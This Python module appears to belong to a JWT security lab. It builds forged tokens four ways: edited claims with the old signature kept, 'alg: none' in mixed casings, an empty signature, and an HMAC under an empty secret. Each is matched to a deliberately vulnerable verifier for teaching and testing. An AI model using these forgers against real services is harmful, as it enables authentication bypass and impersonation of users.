"""Forgers for tokens that carry no valid signature at all.

Four ways to get claims accepted without any key, each the mirror of one
verifier bug in ``labkit.vulnerable``:

- ``forge_tampered``: edit the claims and keep the old signature, for a
  verifier that never checks it (``decode_without_verification``);
- ``forge_none``: ``alg: none`` in the casings denylists miss, with an empty
  signature (``accept_alg_none``);
- ``forge_empty_signature``: a real algorithm and no signature, for a
  comparison that stops at the shorter of two MACs (``accept_alg_none``);
- ``forge_empty_secret``: a genuine HS256 signature under the empty key, for a
  service whose secret was never configured (``accept_empty_secret``).

``labkit.verify`` refuses all four. Each forger takes the claims the attacker
wants and, optionally, a header to imitate (its ``alg`` is replaced).
"""

from __future__ import annotations

import hashlib
import hmac
from typing import Any

from labkit import tokens
from labkit.attacks.forgery import Forgery
from labkit.errors import DisallowedAlgorithmError, MalformedTokenError

__all__ = [
    "NONE_CASINGS",
    "forge_empty_secret",
    "forge_empty_signature",
    "forge_none",
    "forge_tampered",
]

NONE_CASINGS: tuple[str, ...] = ("none", "None", "NONE", "nOnE")
"""Spellings of the unsecured alg: RFC 7518 says ``none``; case-sensitive checks miss the rest."""

_HMAC_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def forge_tampered(token: str, claims: dict[str, Any]) -> Forgery:
    """``token`` with its payload replaced by ``claims``, header and signature kept as they were.

    The signature no longer matches: only a verifier that never checks it accepts this.
    """
    head, _, signature = tokens.split(token)
    body = tokens.b64url_encode(tokens.json_bytes(_claims(claims)))
    return Forgery(
        f"{head}.{body}.{signature}",
        "claims edited, original signature kept: accepted only where nobody checks it",
    )


def forge_none(claims: dict[str, Any], *, header: dict[str, Any] | None = None) -> list[Forgery]:
    """One unsigned token per spelling in ``NONE_CASINGS``, each with an empty signature.

    The trailing dot stays: a compact JWS always has three segments, an empty
    third one for ``alg: none`` (RFC 7519 section 6.1).
    """
    return [
        Forgery(
            tokens.encode(_header(header, alg), _claims(claims)),
            f"alg {alg!r} and an empty signature: an unsecured JWT, if the verifier allows it",
        )
        for alg in NONE_CASINGS
    ]


def forge_empty_signature(
    claims: dict[str, Any], *, alg: str = "HS256", header: dict[str, Any] | None = None
) -> Forgery:
    """A token whose header names a real algorithm and whose signature segment is empty.

    A comparison that loops over the received signature's length compares
    nothing and succeeds (ServiceStack, CVE-2020-28042).
    """
    if not isinstance(alg, str) or not alg or alg.lower() == "none":
        raise DisallowedAlgorithmError(f"alg must name a real algorithm, got {alg!r}")
    return Forgery(
        tokens.encode(_header(header, alg), _claims(claims)),
        f"alg {alg!r} with an empty signature: accepted where an empty MAC compares equal",
    )


def forge_empty_secret(
    claims: dict[str, Any], *, alg: str = "HS256", header: dict[str, Any] | None = None
) -> Forgery:
    """A genuine HS256/384/512 signature under the empty key.

    ``labkit.algorithms.sign`` refuses empty secrets, so the HMAC is computed
    here with ``hmac`` directly, as any attacker would.
    """
    if alg not in _HMAC_HASHES:
        raise DisallowedAlgorithmError(f"the empty-secret forgery needs HS256/384/512, got {alg!r}")
    head = _header(header, alg)
    body = _claims(claims)
    mac = hmac.new(b"", tokens.signing_input(head, body), _HMAC_HASHES[alg]).digest()
    return Forgery(
        tokens.encode(head, body, mac),
        f"{alg} signed with the empty secret: accepted where the secret was never set",
    )


def _header(header: dict[str, Any] | None, alg: str) -> dict[str, Any]:
    """``alg`` first, then the imitated header's other members (``typ: JWT`` by default)."""
    if header is None:
        header = {"typ": "JWT"}
    if not isinstance(header, dict):
        raise MalformedTokenError(f"a header must be a dict, got {type(header).__name__}")
    return {"alg": alg, **{name: value for name, value in header.items() if name != "alg"}}


def _claims(claims: object) -> dict[str, Any]:
    if not isinstance(claims, dict):
        raise MalformedTokenError(f"claims must be a dict, got {type(claims).__name__}")
    return claims
